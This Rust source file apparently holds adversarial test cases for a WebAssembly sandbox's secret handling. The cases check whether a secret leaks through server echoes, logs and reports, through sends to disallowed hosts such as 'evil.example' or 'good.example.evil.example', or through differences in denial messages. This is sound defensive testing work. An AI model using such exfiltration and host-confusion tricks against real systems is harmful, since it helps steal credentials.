//! The hunt for a secret's value: in what servers echo, in what a guest leaves behind, in how it is denied.

use std::net::SocketAddr;

use serde_json::{Value, json};

use crate::hostile::attack::{Attack, Step};
use crate::hostile::source::guest;
use crate::hostile::stage::{SECRET, SECRET_NAME};

pub(crate) fn attacks() -> Vec<Attack> {
    vec![echo(), left_behind(), elsewhere(), denials()]
}

/// The secret, and where it may go.
fn granted(host: &str) -> Value {
    json!({ "http": [{ "host": "*", "private": true }], "secrets": [{ "name": SECRET_NAME, "hosts": [host] }] })
}

/// Sends the secret and leaves the failure or answer in memory.
fn send(server: SocketAddr, path: &str) -> String {
    format!("(drop (call $with_secret «{SECRET_NAME}» «http://{server}{path}»))")
}

fn echo() -> Attack {
    Attack::new(
        "secret-echo",
        "has a server echo the secret in every part of an answer",
        |server| {
            // Logs every header and the body of the answer, and returns the body.
            let run = format!(
            "(local $at i32) (local $end i32)
            {send}
            (local.set $at (i32.load (i32.const 2060)))
            (local.set $end (i32.add (local.get $at) (i32.mul (i32.const 16) (i32.load (i32.const 2064)))))
            (loop $next
              (call $log (i32.const 1) (i32.load (local.get $at)) (i32.load offset=4 (local.get $at)))
              (call $log (i32.const 1) (i32.load offset=8 (local.get $at)) (i32.load offset=12 (local.get $at)))
              (local.set $at (i32.add (local.get $at) (i32.const 16)))
              (br_if $next (i32.lt_u (local.get $at) (local.get $end))))
            (call $log (i32.const 1) (i32.load (i32.const 2068)) (i32.load (i32.const 2072)))
            (call $report (i32.const 0) (i32.const 0) (i32.load (i32.const 2068)) (i32.load (i32.const 2072)))
            (call $succeed (i32.load (i32.const 2068)) (i32.load (i32.const 2072)))",
            send = send(server, "/echo"),
        );
            vec![Step::new(guest(&run), "succeeded").grants(granted(&server.to_string()))]
        },
    )
}

fn left_behind() -> Attack {
    Attack::new(
        "secret-left-behind",
        "knows the value and writes it wherever somebody reads",
        |server| {
            let before = format!(
                r#"{} (call $log (i32.const 3) «it is {SECRET}»)
            (call $report (i32.const 1) (i32.const 1) «{SECRET}»)
            (call $record «link» «{{"{SECRET}":"{SECRET}"}}» (i32.const 3000))
            (call $record «link» «{{"a":"\u0058yzzy-Plugh\u002d90210"}}» (i32.const 3000))"#,
                send(server, "/")
            );
            let ends = [
                format!(
                    r#"(call $succeed «{{"{SECRET}":["{SECRET}","\u0058yzzy-Plugh-90210"]}}»)"#
                ),
                format!("(call $fail (i32.const 0) «{SECRET} is what it is»)"),
                format!("(call $fail (i32.const 1) «{SECRET}»)"),
                format!("(call $succeed «not JSON: {SECRET}»)"),
                format!("(call $log (i32.const 3) «panicked at {SECRET}») unreachable"),
            ];
            let answers = ["succeeded", "permanent", "retryable", "contract", "trap"];
            ends.iter()
                .zip(answers)
                .map(|(end, answer)| {
                    Step::new(guest(&format!("{before} {end}")), answer)
                        .what(answer)
                        .grants(granted("*"))
                })
                .collect()
        },
    )
}

fn elsewhere() -> Attack {
    Attack::new(
        "secret-elsewhere",
        "sends the secret where it may not go",
        |server| {
            let port = server.port();
            let to = |url: String, host: &str, expected| {
                let run = format!("(call $with_secret «{SECRET_NAME}» «{url}»)");
                Step::new(guest(&run), expected)
                    .what(url)
                    .grants(granted(host))
            };
            vec![
                to(format!("http://{server}/echo"), "other.example", "denied"),
                to(
                    format!("http://evil.example:{port}/echo"),
                    "*.good.example",
                    "denied",
                ),
                to(
                    format!("http://good.example.evil.example:{port}/echo"),
                    "good.example",
                    "denied",
                ),
                to(
                    format!("http://good.example:{port}/echo"),
                    "good.example:443",
                    "denied",
                ),
                to(
                    format!("http://{server}/redirect"),
                    "good.example",
                    "denied",
                ),
            ]
        },
    )
}

fn denials() -> Attack {
    Attack::new(
        "secret-denials",
        "compares the denials of a secret that exists and of one that does not",
        |_| {
            // Both names have five letters, so both texts have the same length, unless one of them tells more.
            let run = format!(
                "(local $len i32)
            (call $handle «{SECRET_NAME}» (i32.const 3000))
            (if (i32.eqz (i32.load8_u (i32.const 3000))) (then unreachable))
            (if (i32.load8_u (i32.const 3004)) (then unreachable))
            (local.set $len (i32.load (i32.const 3012)))
            (call $handle «nokey» (i32.const 3000))
            (if (i32.ne (local.get $len) (i32.load (i32.const 3012))) (then unreachable))
            (if (i32.load8_u (i32.const 3004)) (then unreachable))
            (call $succeed «{{}}»)"
            );
            vec![Step::new(guest(&run), "succeeded")]
        },
    )
}
